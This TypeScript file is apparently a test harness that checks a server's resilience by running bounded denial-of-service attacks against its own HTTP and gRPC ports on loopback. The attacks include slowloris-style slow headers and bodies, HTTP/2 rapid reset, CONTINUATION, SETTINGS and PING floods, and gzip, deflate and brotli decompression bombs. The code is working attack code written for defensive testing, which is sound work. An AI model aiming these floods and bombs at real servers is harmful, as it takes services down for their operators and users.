/**
 * Attacks on a listening port, each over many sockets: what every socket sends, and when it rests.
 *
 * An attack is bounded in sockets, bytes and time, and ends when the server has ended all of its
 * sockets. Sockets come from several loopback addresses, as those of a botnet would.
 */
import { connect, type Socket } from 'node:net'
import { brotliCompressSync, constants, deflateSync, gzipSync } from 'node:zlib'
import {
  encodeFrame,
  encodeHeaders,
  FLAG,
  FRAME,
  FrameParser,
  grpcHeaders,
  PREFACE,
  u32,
} from './http2-frames.ts'

export const ATTACKS = {
  'slow headers': { door: 'http', sockets: 2000, start: slowHeaders },
  'too many of one address': { door: 'http', sockets: 2000, perAddress: 2000, start: slowHeaders },
  'slow bodies': { door: 'http', sockets: 2000, start: slowBody },
  'silent sockets on the gRPC port': { door: 'grpc', sockets: 2000, start: silence },
  'slow bodies of gRPC': { door: 'grpc', sockets: 500, leaves: true, start: slowMessage },
  'rapid reset': { door: 'grpc', sockets: 20, start: rapidReset },
  'CONTINUATION flood': { door: 'grpc', sockets: 20, start: continuationFlood },
  'SETTINGS flood': { door: 'grpc', sockets: 20, start: settingsFlood },
  'PING flood': { door: 'grpc', sockets: 20, start: pingFlood },
  'gzip bombs': {
    door: 'http',
    sockets: 60,
    leaves: true,
    start: bomb('gzip'),
    prepare: () => bombOf('gzip'),
  },
  'deflate bombs': {
    door: 'http',
    sockets: 60,
    leaves: true,
    start: bomb('deflate'),
    prepare: () => bombOf('deflate'),
  },
  'brotli bombs': {
    door: 'http',
    sockets: 60,
    leaves: true,
    start: bomb('br'),
    prepare: () => bombOf('br'),
  },
  'bombs of blank lines': {
    door: 'http',
    sockets: 20,
    leaves: true,
    start: blankLines,
    prepare: () => bombOf('lines'),
  },
  'gzip bombs of strangers': {
    door: 'http',
    sockets: 200,
    leaves: true,
    start: strangersBomb,
    prepare: () => bombOf('gzip'),
  },
  'gzip bombs of gRPC': {
    door: 'grpc',
    sockets: 60,
    leaves: true,
    start: grpcBomb,
    prepare: () => bombOf('gzip'),
  },
} as const satisfies Record<string, Attack>

export type AttackName = keyof typeof ATTACKS

interface Attack {
  readonly door: 'http' | 'grpc'
  readonly sockets: number
  /** Each socket was answered and may be left: the server need not end it. */
  readonly leaves?: boolean
  /** Sockets that come from one address. Default: below the limit of a server. */
  readonly perAddress?: number
  /** Called before the sockets are opened: making a bomb takes longer than a server waits. */
  readonly prepare?: () => void
  /** Begins to send; stops by itself when the socket is closed. */
  readonly start: (socket: Socket, credential: string) => void
}

export interface AttackOutcome {
  readonly sockets: number
  /** Sockets that the server ended, or answered where that is the end. */
  readonly ended: number
  /** How often it ended one with which answer: an HTTP status, a GOAWAY code, a gRPC status. */
  readonly answers: Readonly<Record<string, number>>
}

/** Below the limit of a server. */
const SOCKETS_PER_ADDRESS = 250
/** Milliseconds after which the attacker gives up on a server that does not end his sockets. */
const PATIENCE_MS = 90_000
const OPENED_AT_ONCE = 100
const TRICKLE_MS = 2000

export interface Target {
  readonly httpPort: number
  readonly grpcPort: number
  /** Of an account of the attacker's own. */
  readonly credential: string
}

/** Settles when the server has ended every socket, or patience has. */
export async function attack(
  name: AttackName,
  { httpPort, grpcPort, credential }: Target,
  onOpen: () => void,
): Promise<AttackOutcome> {
  const { door, sockets, prepare, start, ...how }: Attack = ATTACKS[name]
  const { leaves = false, perAddress = SOCKETS_PER_ADDRESS } = how
  prepare?.()
  const port = door === 'http' ? httpPort : grpcPort
  const answers: Record<string, number> = {}
  const open: Assailant[] = []
  for (let i = 0; i < sockets; i++) {
    const from = `127.0.0.${2 + Math.floor(i / perAddress)}`
    const begin = (socket: Socket) => start(socket, credential)
    open.push(new Assailant({ port, from, door, leaves, start: begin }))
    if (i % OPENED_AT_ONCE === 0) await open[i]?.connected
  }
  await Promise.all(open.map(({ connected }) => connected))
  onOpen()
  const timer = setTimeout(() => {
    for (const each of open) each.giveUp()
  }, PATIENCE_MS)
  for (const each of open) {
    const answer = await each.answer
    answers[answer] = (answers[answer] ?? 0) + 1
  }
  clearTimeout(timer)
  return { sockets, ended: open.filter((each) => each.endedByServer).length, answers }
}

/** One socket of an attack. */
class Assailant {
  readonly connected: Promise<void>
  readonly answer: Promise<string>
  endedByServer = true
  readonly #socket: Socket

  constructor(options: {
    port: number
    from: string
    door: 'http' | 'grpc'
    leaves: boolean
    start: (socket: Socket) => void
  }) {
    const { port, from, door, leaves, start } = options
    const socket = connect({ port, host: '127.0.0.1', localAddress: from })
    this.#socket = socket
    let heard = 'no answer'
    const listen = door === 'http' ? hearStatus : hearFrames
    listen(socket, (answer) => {
      heard = answer
      if (leaves) socket.destroy()
    })
    socket.on('error', () => socket.destroy())
    this.connected = new Promise((resolve) => {
      socket.once('connect', () => {
        start(socket)
        resolve()
      })
      socket.once('close', () => resolve())
    })
    this.answer = new Promise((resolve) => socket.once('close', () => resolve(heard)))
  }

  giveUp(): void {
    if (this.#socket.destroyed) return
    this.endedByServer = false
    this.#socket.destroy()
  }
}

function hearStatus(socket: Socket, hear: (answer: string) => void): void {
  socket.once('data', (part) => hear(`HTTP ${String(part).slice(9, 12)}`))
}

function hearFrames(socket: Socket, hear: (answer: string) => void): void {
  const parser = new FrameParser()
  socket.on('data', (part: Buffer) => {
    for (const { type, flags, payload } of parser.push(part)) {
      if (type === FRAME.GOAWAY) hear(`GOAWAY ${payload.readUInt32BE(4)}`)
      if (type === FRAME.HEADERS && (flags & FLAG.END_STREAM) !== 0) hear('trailers')
    }
  })
}

/** Sends a part now and then, until the socket is gone. */
function trickle(socket: Socket, part: () => Uint8Array | string): void {
  const timer = setInterval(() => socket.write(part()), TRICKLE_MS)
  socket.once('close', () => clearInterval(timer))
}

/** Sends as fast as the server takes it, up to a bound. */
function pour(socket: Socket, bytesMax: number, part: () => Uint8Array): void {
  let sent = 0
  const go = () => {
    while (!socket.destroyed && sent < bytesMax) {
      const next = part()
      sent += next.length
      if (!socket.write(next)) return
    }
  }
  socket.on('drain', go)
  go()
}

function slowHeaders(socket: Socket): void {
  socket.write('GET /v1/collections HTTP/1.1\r\nhost: localhost\r\n')
  trickle(socket, () => 'x-a: b\r\n')
}

function slowBody(socket: Socket): void {
  const head =
    'POST /v1/auth/login HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n'
  socket.write(`${head}content-length: 100000\r\n\r\n`)
  trickle(socket, () => ' ')
}

function silence(): void {}

const LOG_IN = '/auth.v1.Accounts/LogIn'

function openSession(socket: Socket): void {
  socket.write(Buffer.concat([PREFACE, encodeFrame({ type: FRAME.SETTINGS })]))
}

function slowMessage(socket: Socket): void {
  openSession(socket)
  const flags = FLAG.END_HEADERS
  socket.write(encodeFrame({ type: FRAME.HEADERS, flags, stream: 1, payload: grpcHeaders(LOG_IN) }))
  const length = Buffer.concat([Buffer.from([0]), u32(100_000)])
  socket.write(encodeFrame({ type: FRAME.DATA, stream: 1, payload: length }))
  trickle(socket, () => encodeFrame({ type: FRAME.DATA, stream: 1, payload: Buffer.from([0]) }))
}

const FLOOD_BYTES = 64 * 2 ** 20

function rapidReset(socket: Socket): void {
  openSession(socket)
  const payload = grpcHeaders(LOG_IN)
  let stream = 1
  pour(socket, FLOOD_BYTES, () => {
    const pairs: Buffer[] = []
    for (let i = 0; i < 100; i++, stream += 2) {
      const flags = FLAG.END_HEADERS
      pairs.push(encodeFrame({ type: FRAME.HEADERS, flags, stream, payload }))
      pairs.push(encodeFrame({ type: FRAME.RST_STREAM, stream, payload: u32(CANCEL) }))
    }
    return Buffer.concat(pairs)
  })
}

const CANCEL = 8

function continuationFlood(socket: Socket): void {
  openSession(socket)
  socket.write(encodeFrame({ type: FRAME.HEADERS, stream: 1, payload: grpcHeaders(LOG_IN) }))
  const payload = encodeHeaders({ 'x-filling': 'x'.repeat(1000) })
  const frame = encodeFrame({ type: FRAME.CONTINUATION, stream: 1, payload })
  pour(socket, FLOOD_BYTES, () => frame)
}

function settingsFlood(socket: Socket): void {
  openSession(socket)
  const frames = Buffer.concat(Array(100).fill(encodeFrame({ type: FRAME.SETTINGS })))
  pour(socket, FLOOD_BYTES, () => frames)
}

function pingFlood(socket: Socket): void {
  openSession(socket)
  const ping = encodeFrame({ type: FRAME.PING, payload: Buffer.alloc(8) })
  const frames = Buffer.concat(Array(100).fill(ping))
  pour(socket, FLOOD_BYTES, () => frames)
}

/** What a bomb unfolds to. */
const BOMB_BYTES = 2 ** 28

/** Bombs of one who has a key: for a route that takes large bodies. */
function bomb(encoding: Encoding) {
  return (socket: Socket, credential: string) => {
    sendBomb(socket, encoding, { path: '/v1/collections/floods/points:upsert', credential })
  }
}

/** For a route that is open to everybody. */
function strangersBomb(socket: Socket): void {
  sendBomb(socket, 'gzip', { path: '/v1/auth/login', credential: 'none' })
}

type Encoding = 'gzip' | 'deflate' | 'br'
/** `lines`: gzip of nothing but line ends. */
type BombKind = Encoding | 'lines'
const bombs = new Map<BombKind, Buffer>()

function bombOf(kind: BombKind): Buffer {
  const body = bombs.get(kind) ?? compress(kind)
  bombs.set(kind, body)
  return body
}

function sendBomb(
  socket: Socket,
  encoding: Encoding,
  { path, credential }: { readonly path: string; readonly credential: string },
): void {
  const body = bombOf(encoding)
  const head = `POST ${path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n`
  const how = `content-encoding: ${encoding}\r\ncontent-length: ${body.length}\r\n`
  socket.write(`${head}authorization: Bearer ${credential}\r\n${how}\r\n`)
  socket.write(body)
}

function compress(kind: BombKind): Buffer {
  const filling = Buffer.alloc(BOMB_BYTES, kind === 'lines' ? 0x0a : 0x20)
  switch (kind) {
    case 'gzip':
    case 'lines':
      return gzipSync(filling)
    case 'deflate':
      return deflateSync(filling)
    case 'br':
      return brotliCompressSync(filling, {
        params: { [constants.BROTLI_PARAM_QUALITY]: constants.BROTLI_MIN_QUALITY },
      })
  }
}

function blankLines(socket: Socket, credential: string): void {
  const body = bombOf('lines')
  const path = '/v1/collections/floods/points:upsertStream'
  const head = `POST ${path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/x-ndjson\r\n`
  const how = `content-encoding: gzip\r\ncontent-length: ${body.length}\r\n`
  socket.write(`${head}authorization: Bearer ${credential}\r\n${how}\r\n`)
  socket.write(body)
}

/** One compressed message in as many frames as it takes; then the stream ends. */
function grpcBomb(socket: Socket, credential: string): void {
  const body = bombOf('gzip')
  openSession(socket)
  const payload = grpcHeaders('/vectron.v1.Points/UpsertPoints', {
    authorization: `Bearer ${credential}`,
    'grpc-encoding': 'gzip',
  })
  const flags = FLAG.END_HEADERS
  socket.write(encodeFrame({ type: FRAME.HEADERS, flags, stream: 1, payload }))
  const message = Buffer.concat([Buffer.from([1]), u32(body.length), body])
  const step = 16_384
  for (let at = 0; at < message.length; at += step) {
    const last = at + step >= message.length
    const part = message.subarray(at, at + step)
    const flags = last ? FLAG.END_STREAM : 0
    socket.write(encodeFrame({ type: FRAME.DATA, flags, stream: 1, payload: part }))
  }
}
